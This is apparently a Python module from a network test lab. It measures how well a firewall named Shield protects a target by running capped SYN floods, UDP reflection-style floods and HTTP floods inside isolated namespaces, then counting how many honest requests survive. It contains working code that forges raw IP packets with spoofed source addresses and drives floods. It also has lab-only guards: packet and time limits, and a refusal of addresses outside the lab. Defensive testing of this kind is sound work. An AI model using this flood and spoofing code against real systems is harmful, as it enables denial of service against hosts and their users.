"""An attack inside the lab, bounded in packets and seconds, and the share of honest requests that survive it.

    attackers ── flood, evenly over the seconds ──▶ target ◀── requests, one after another, each a connection of its own ── client
                 SYN flood, UDP reflection: forged sources      survived: the connection was made in time and, where a path is asked for, answered below 400
                 HTTP flood: real connections, kept alive

Every socket is opened in a namespace of the lab, which has no way out of it; `victim` refuses what is no address of the lab besides. Forged sources are from the internet's dark addresses,
where answers vanish. What Shield dropped is read from the counters of its rules, which name the cause; SYN cookies from the kernel's.
NOT MODELLED: links that fill up (nothing here has a bandwidth that would end), so UDP reflection harms nobody but by what arrives.
"""

from __future__ import annotations

import enum
import http.client
import itertools
import math
import random
import socket
import ssl
import struct
import subprocess
import threading
import time
from collections import Counter
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from ipaddress import IPv4Address, IPv4Network

import msgspec

from testbed.observe.lab_view import LabView
from testbed.plan import Node, Plan, RouteType

MOST_PACKETS, MOST_SECONDS = 200_000, 60.0
REQUESTS_PER_SECOND, MOST_REQUESTS = 10, 200
PATIENCE_S = 2.5
"""A client's: its SYN, and the same again after a second."""
TICK_S = 0.01
CONNECTIONS = 4
"""Of an HTTP flood, for each attacker."""
REFLECTING = (53, 123, 389, 1900, 11211)
ANSWER = bytes(440)
"""About what NTP's monlist and others send."""
EPHEMERAL = (1024, 65535)
SHIELD, DARK = "shield", "dark address space"
IP_HEADER, TCP_HEADER, UDP_HEADER = struct.Struct("!BBHHHBBH4s4s"), struct.Struct("!HHIIBBHHH"), struct.Struct("!HHHH")
TCP_NUMBER, UDP_NUMBER, SYN = 6, 17, 2


class Kind(enum.StrEnum):
    """What floods the target."""

    SYN_FLOOD = "syn-flood"
    UDP_REFLECTION = "udp-reflection"
    HTTP_FLOOD = "http-flood"


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """What is to be done. `path` empty: a request is a TCP connection and nothing else. `learn_s`: honest requests alone before the flood begins, as a baseline."""

    kind: Kind
    address: IPv4Address
    port: int
    attackers: tuple[str, ...]
    client: str
    packets: int
    seconds: float
    host: str = ""
    path: str = ""
    secure: bool = False
    learn_s: float = 0.0


@dataclass(frozen=True, slots=True, kw_only=True)
class Dropped:
    """Packets that a rule of Shield's has dropped; the first SYNs of honest clients, which they send again, are among them."""

    node: str
    cause: str
    packets: int


@dataclass(frozen=True, slots=True, kw_only=True)
class Report:
    """What came of it. `packets` were sent, for an HTTP flood requests, with `answers` by status (0: none); `survived` of `requests` honest ones; `cookies_sent` in answer to SYNs, by all nodes."""

    attack: Attack
    packets: int
    took_s: float
    requests: int
    survived: int
    answers: dict[int, int]
    dropped: tuple[Dropped, ...]
    cookies_sent: int

    @property
    def share(self) -> float:
        """Of honest requests that survived."""
        return self.survived / self.requests if self.requests else 0.0

    @property
    def packets_dropped(self) -> int:
        """By Shield, all in all."""
        return sum(each.packets for each in self.dropped)


def victim(plan: Plan, address: IPv4Address) -> IPv4Address:
    """The public address of what has this one, or the address itself. Raises LookupError if nobody in the lab has it."""
    public = {IPv4Address(private): IPv4Address(mapped) for private, mapped in _mapped(plan)}
    own = {each.ip for node in plan.nodes for each in node.loopback} | {each.ip for link in plan.links for end in (link.a, link.b) for each in end.addresses}
    if address not in own and address not in public.values():
        raise LookupError(f"nobody in this lab has {address}")
    return public.get(address, address)


def run(lab: LabView, wanted: Attack) -> Report:
    """Attack, and tell who survived. Raises ValueError for one without bounds, LookupError for a target outside the lab, OSError if nothing answers even before it."""
    if not (0 < wanted.packets <= MOST_PACKETS and 0 < wanted.seconds <= MOST_SECONDS):
        raise ValueError(f"an attack has at most {MOST_PACKETS} packets in at most {MOST_SECONDS:g} seconds")
    victim(lab.plan, wanted.address)
    clients = _Clients(lab, wanted)
    if not clients.learn():
        raise OSError(f"{wanted.address} does not answer {wanted.client} on port {wanted.port} even before the attack")
    before, cookies = _shield_counters(lab), _cookies(lab)
    flood = _HttpFlood(lab, wanted) if wanted.kind is Kind.HTTP_FLOOD else _PacketFlood(lab, wanted)
    began = time.monotonic()
    thread = threading.Thread(target=flood.run, name="attack", daemon=True)
    thread.start()
    survived, requests = clients.during()
    thread.join()
    dropped = tuple(Dropped(node=node, cause=cause, packets=count - before[node, cause]) for (node, cause), count in sorted(_shield_counters(lab).items()) if count > before[node, cause])
    return Report(
        attack=wanted, packets=flood.sent, took_s=round(time.monotonic() - began, 3), requests=requests, survived=survived,
        answers=dict(sorted(flood.answers.items())), dropped=dropped, cookies_sent=_cookies(lab) - cookies,
    )  # fmt: skip


class _Clients:
    """Honest requests at even distances, their sockets opened beforehand."""

    def __init__(self, lab: LabView, attack: Attack) -> None:
        self._lab, self._attack = lab, attack
        self._first_answered = math.inf

    def learn(self) -> bool:
        """Requests before the attack; whether any was answered. On a busy machine they come late, so the time is that from the first answer on: the flood is to find a baseline."""
        survived, _ = self._ask(max(1, round(self._attack.learn_s * REQUESTS_PER_SECOND)), self._attack.learn_s)
        if survived:
            time.sleep(max(0.0, self._first_answered + self._attack.learn_s - time.monotonic()))
        return survived > 0

    def during(self) -> tuple[int, int]:
        """Who survived, of how many."""
        return self._ask(max(1, min(MOST_REQUESTS, round(self._attack.seconds * REQUESTS_PER_SECOND))), self._attack.seconds)

    def _ask(self, count: int, seconds: float) -> tuple[int, int]:
        sockets = [self._lab.socket(self._attack.client, socket.AF_INET, socket.SOCK_STREAM) for _ in range(count)]
        began = time.monotonic()
        with ThreadPoolExecutor(max_workers=count, thread_name_prefix="client") as pool:
            answered = list(pool.map(lambda each: self._one(each[1], began + seconds * each[0] / count), enumerate(sockets)))
        return sum(answered), count

    def _one(self, sock: socket.socket, at: float) -> bool:
        time.sleep(max(0.0, at - time.monotonic()))
        try:
            survived = 0 <= _request(sock, self._attack) < 400
            self._first_answered = min(self._first_answered, time.monotonic())
            return survived
        except (OSError, http.client.HTTPException):
            return False
        finally:
            sock.close()


def _request(sock: socket.socket, attack: Attack) -> int:
    """The status of one request on a connection of its own, 0 if only the connection was wanted. Raises OSError or HTTPException."""
    sock.settimeout(PATIENCE_S)
    sock.connect((str(attack.address), attack.port))
    if not attack.path:
        return 0
    connection = _over(sock, attack)
    connection.request("GET", attack.path, headers={"Host": attack.host or str(attack.address), "Connection": "close"})
    status: int = connection.getresponse().status
    return status


def _over(sock: socket.socket, attack: Attack) -> http.client.HTTPConnection:
    """HTTP over a connection that is there. Whose certificate it is does not matter to who counts answers."""
    if attack.secure:
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        sock = context.wrap_socket(sock, server_hostname=attack.host or None)
    connection = http.client.HTTPConnection(attack.host or str(attack.address), attack.port)
    connection.sock = sock
    return connection


class _PacketFlood:
    """Packets with forged sources, in ticks, so that they come evenly."""

    def __init__(self, lab: LabView, attack: Attack) -> None:
        self._attack = attack
        self._sockets = [lab.socket(node, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) for node in attack.attackers]
        self._packets = _forged(attack, _dark(lab.plan))
        self.sent = 0
        self.answers: Counter[int] = Counter()

    def run(self) -> None:
        """Send them all; what a full queue refuses is not sent again."""
        attack, began, target = self._attack, time.monotonic(), (str(self._attack.address), 0)
        for sock in itertools.cycle(self._sockets):
            due = min(attack.packets, round(attack.packets * (time.monotonic() - began + TICK_S) / attack.seconds))
            for _ in range(self.sent, due):
                try:
                    sock.sendto(next(self._packets), target)
                except BlockingIOError:
                    continue
                finally:
                    self.sent += 1
            if self.sent >= attack.packets or time.monotonic() - began > attack.seconds:
                break
            time.sleep(TICK_S)
        for sock in self._sockets:
            sock.close()


def _forged(attack: Attack, sources: IPv4Network) -> Iterator[bytes]:
    """Whole IP packets, without end; no two with the same ends soon."""
    chance, target = random.Random(attack.packets), attack.address.packed
    for number in itertools.count(1):
        source = sources[1 + number % (sources.num_addresses - 2)].packed
        port = chance.randint(*EPHEMERAL)
        if attack.kind is Kind.SYN_FLOOD:
            head = TCP_HEADER.pack(port, attack.port, chance.getrandbits(32), 0, 5 << 4, SYN, 64240, 0, 0)
            checksum = _checksum(source + target + struct.pack("!HH", TCP_NUMBER, len(head)) + head)
            protocol, rest = TCP_NUMBER, head[:16] + struct.pack("!H", checksum) + head[18:]
        else:
            protocol, rest = UDP_NUMBER, UDP_HEADER.pack(REFLECTING[number % len(REFLECTING)], port, UDP_HEADER.size + len(ANSWER), 0) + ANSWER
        yield IP_HEADER.pack(0x45, 0, IP_HEADER.size + len(rest), number & 0xFFFF, 0, 64, protocol, 0, source, target) + rest


def _checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


class _HttpFlood:
    """Requests over kept connections from the attackers' own addresses: nobody can forge a source and hear the answer."""

    def __init__(self, lab: LabView, attack: Attack) -> None:
        self._lab, self._attack = lab, attack
        self._lock = threading.Lock()
        self._began = 0.0
        self.sent = 0
        self.answers: Counter[int] = Counter()

    def run(self) -> None:
        """Send them all, as far as the time goes."""
        self._began = time.monotonic()
        workers = [threading.Thread(target=self._work, args=(node,), daemon=True) for node in self._attack.attackers for _ in range(CONNECTIONS)]
        for worker in workers:
            worker.start()
        for worker in workers:
            worker.join()

    def _turn(self) -> bool:
        """Wait for the next request's turn; whether there is one."""
        with self._lock:
            number, self.sent = self.sent, self.sent + 1
        at = self._began + self._attack.seconds * number / self._attack.packets
        if number >= self._attack.packets or time.monotonic() > self._began + self._attack.seconds:
            with self._lock:
                self.sent -= 1
            return False
        time.sleep(max(0.0, at - time.monotonic()))
        return True

    def _work(self, node: str) -> None:
        attack, connection = self._attack, None
        while self._turn():
            try:
                if connection is None or connection.sock is None:
                    sock = self._lab.socket(node, socket.AF_INET, socket.SOCK_STREAM)
                    sock.settimeout(PATIENCE_S)
                    sock.connect((str(attack.address), attack.port))
                    connection = _over(sock, attack)
                connection.request("GET", attack.path, headers={"Host": attack.host or str(attack.address)})
                answer = connection.getresponse()
                answer.read()
                status = answer.status
            except (OSError, http.client.HTTPException):
                status = 0
                if connection is not None:
                    connection.close()
                connection = None
            with self._lock:
                self.answers[status] += 1
        if connection is not None:
            connection.close()


def _dark(plan: Plan) -> IPv4Network:
    """Addresses that nobody has, and that nobody says so of. Raises LookupError without an internet."""
    for node in plan.nodes:
        for route in node.routes:
            if route.origin == DARK and route.type is RouteType.BLACKHOLE:
                return route.destination
    raise LookupError(f"{plan.name} has no internet to forge addresses of")


def _mapped(plan: Plan) -> Iterator[tuple[str, str]]:
    """Private and public addresses that internet gateways swap."""
    for node in plan.nodes:
        for table in node.ruleset.tables if node.ruleset else ():
            for each in table.maps:
                if each.name == "public_of":
                    yield from each.elements


def _shielded(plan: Plan) -> Iterator[Node]:
    return (node for node in plan.nodes if node.ruleset is not None and any(table.name == SHIELD for table in node.ruleset.tables))


def _shield_counters(lab: LabView) -> Counter[tuple[str, str]]:
    """Packets that each named rule of Shield's has met, by node and cause."""
    found: Counter[tuple[str, str]] = Counter()
    for node in _shielded(lab.plan):
        listing = msgspec.json.decode(_output(lab, node.name, "nft", "-t", "-j", "list", "table", "ip", SHIELD), type=_Listing)
        for entry in listing.nftables:
            if entry.rule is not None and entry.rule.comment:
                drops = any(part.drop is not msgspec.UNSET for part in entry.rule.expr)
                found[node.name, entry.rule.comment] += sum(part.counter.packets for part in entry.rule.expr if drops and part.counter is not None)
    return found


def _cookies(lab: LabView) -> int:
    """SYN cookies sent by the nodes that Shield stands before."""
    total = 0
    for node in _shielded(lab.plan):
        names, values = [line.split() for line in _output(lab, node.name, "cat", "/proc/net/netstat").splitlines() if line.startswith("TcpExt:")][:2]
        total += int(dict(zip(names, values, strict=True)).get("SyncookiesSent", 0))
    return total


def _output(lab: LabView, node: str, *command: str) -> str:
    process = lab.popen(node, command, stdout=subprocess.PIPE)
    return process.communicate(timeout=30)[0].decode()


class _Counter(msgspec.Struct):
    packets: int = 0


class _Part(msgspec.Struct):
    counter: _Counter | None = None
    drop: object = msgspec.UNSET


class _Rule(msgspec.Struct):
    comment: str = ""
    expr: list[_Part] = []


class _Entry(msgspec.Struct):
    rule: _Rule | None = None


class _Listing(msgspec.Struct):
    nftables: list[_Entry]
